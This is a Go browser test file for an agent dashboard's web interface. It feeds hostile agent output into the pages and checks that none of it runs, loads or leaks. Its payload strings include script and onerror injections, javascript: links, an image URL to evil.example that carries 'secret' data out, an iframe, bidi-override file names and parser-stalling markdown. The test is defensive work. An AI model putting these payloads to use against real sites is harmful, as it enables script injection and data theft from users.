package browser_test

import (
	"context"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/wardroom/wardroom/scripts/testbed"
	"github.com/wardroom/wardroom/sdk/agent"
	"github.com/wardroom/wardroom/sdk/client"
)

func contains(text, part string) bool { return strings.Contains(text, part) }

// hostile is what an agent may say to take over the page, carry data out, or mislead who reads.
var hostile = strings.Join([]string{
	`<script>window.hacked = 1</script><img src="https://evil.example/a.png" onerror="window.hacked = 1"><svg onload="window.hacked = 1"/>`,
	`# Heading <b onmouseover="window.hacked = 1">bold</b>`,
	`![picture](https://evil.example/leak?data=secret) [click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) <javascript:window.hacked=1>`,
	`[good](https://docs.example/page) https://auto.example/x mail@docs.example`,
	"admin\u202egnp.exe \u2066hidden\u2069 zero\u200bwidth \u00ad \U000E0041tag",
	"| a | b |\n|---|---|\n| <iframe src=//evil.example> | `code` |",
	"```html\n<script>window.hacked = 1</script>\n```",
	"${7*7} {{7*7}} &lt;script&gt; \x1b[31mred\x1b[0m \x00",
	strings.Repeat("> ", 3000) + "deep",
}, "\n\n")

// long is the same with a line of 900 KiB, what a message of an agent has room for: that is not formatted, and shown as it is, in parts.
var long = hostile + strings.Repeat("long", 225<<10)

// Nothing that agents or users write runs, loads or is followed by itself, wherever it is shown.
func TestHostileText(t *testing.T) {
	agents, err := testbed.RunAgents(t.Context(), 1, func(int) agent.Options {
		return agent.Options{URL: shared.URL, Name: `<img src=x onerror="window.hacked=1">`, Capabilities: []string{"hostile"},
			Handler: func(context.Context, *agent.Task) (any, error) {
				return map[string]any{"text": hostile, "long": long, `<script>window.hacked=1</script>`: hostile[:2000], "__proto__": map[string]any{"x": 1}}, nil
			}}
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = agents.End() })
	const name = `hostile-"<b>é-😀`
	definition := "name: '" + name + "'\nversion: 1.0.0\ndescription: '<script>window.hacked=1</script>'\ninput:\n  text: {type: string}\nagents:\n  capabilities: [hostile]\n  min: 1\naggregation:\n  strategy: first\n"
	if _, err := shared.Client.CreatePattern(t.Context(), client.PatternInput{Definition: definition}); err != nil {
		t.Logf("a pattern may not have this name (%v): a plain one has its description", err)
		definition = strings.Replace(definition, "'"+name+"'", "hostile", 1)
		if _, err := shared.Client.CreatePattern(t.Context(), client.PatternInput{Definition: definition}); err != nil {
			t.Fatal(err)
		}
	}
	patterns := "hostile"
	if strings.Contains(definition, name) {
		patterns = name
	}
	done, err := shared.Client.Execute(t.Context(), client.ExecuteRequest{Pattern: patterns, Input: []byte(`{"text": "<img src=x onerror=window.hacked=1>"}`)})
	if err != nil {
		t.Fatal(err)
	}
	if done.Status != "completed" {
		t.Fatalf("the answer is not there to be shown: %s %v", done.Status, done.Error)
	}
	at := "/executions/" + done.ExecutionID
	for _, path := range []string{at + "?tab=data", at, at + "?tab=journal", "/patterns", "/patterns/" + url.PathEscape(patterns), "/patterns/" + url.PathEscape(patterns) + "?tab=definition", "/executions", "/agents", "/"} {
		t.Run(path[strings.LastIndex(path, "/"):], func(t *testing.T) {
			p := open(t, path)
			p.until("the screen", `document.querySelector("h1") && !document.querySelector(".waiting")`)
			switch {
			case path == at:
				p.click(`[...document.querySelectorAll("[role=row]")].find((r) => r.dataset.key?.startsWith("task:"))`)
				p.until("the answer, formatted", `document.querySelector(".detail .markdown p")`)
			case strings.Contains(path, "journal"):
				p.do(chromedp.Evaluate(`document.querySelectorAll(".journal details").forEach((d) => { d.open = true; })`, nil))
			case strings.Contains(path, "tab=data"):
				p.until("the answer", `document.querySelector("main").innerText.includes("Result")`)
				p.until("what would turn the text around, as its code", `document.querySelector("main").innerText.includes("admin‹202E›gnp.exe")`)
				p.shoot("data")
			}
			var found []string
			p.do(chromedp.Evaluate(`(() => {
				const bad = [];
				if (window.hacked) bad.push("a script ran");
				for (const e of document.querySelectorAll("#app *")) {
					if (["IMG", "IFRAME", "SCRIPT", "OBJECT", "EMBED", "FORM"].includes(e.tagName) && !(e.tagName === "FORM" && !e.action.includes("evil"))) bad.push(e.outerHTML.slice(0, 200));
					for (const a of e.attributes) if (a.name.startsWith("on")) bad.push(e.outerHTML.slice(0, 200));
					if (e.tagName === "A" && !/^(https?|mailto):/.test(e.href)) bad.push("link to " + e.href);
					if (e.tagName === "A" && e.host !== location.host && (e.target !== "_blank" || !e.rel.includes("noopener"))) bad.push("link of others: " + e.outerHTML.slice(0, 200));
				}
				return bad;
			})()`, &found))
			for _, text := range found {
				t.Error(text)
			}
			p.mu.Lock()
			defer p.mu.Unlock()
			for host := range p.hosts {
				if host != shared.Host {
					t.Errorf("the page asked %s for something", host)
				}
			}
		})
	}
}

// A text that a parser would be at for ever is shown as it is, at once.
func TestTextThatTakesParsersLong(t *testing.T) {
	putUrgency(t)
	e, err := shared.Client.ExecuteAsync(t.Context(), client.ExecuteRequest{Pattern: "urgency", Input: []byte(`{"text": "` + strings.Repeat("[a](", 30_000) + `", "note": "**` + strings.Repeat("bold ", 60) + `end**"}`)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_, _ = shared.Client.CancelExecution(context.WithoutCancel(t.Context()), e.ExecutionID, "not needed")
	})
	p := open(t, "/executions/"+e.ExecutionID+"?tab=data")
	p.until("the text as it is, beside one that is formatted", `document.querySelector(".markdown strong") && document.querySelector(".markdown.as-is")?.innerText.startsWith("[a]([a](")`)
}
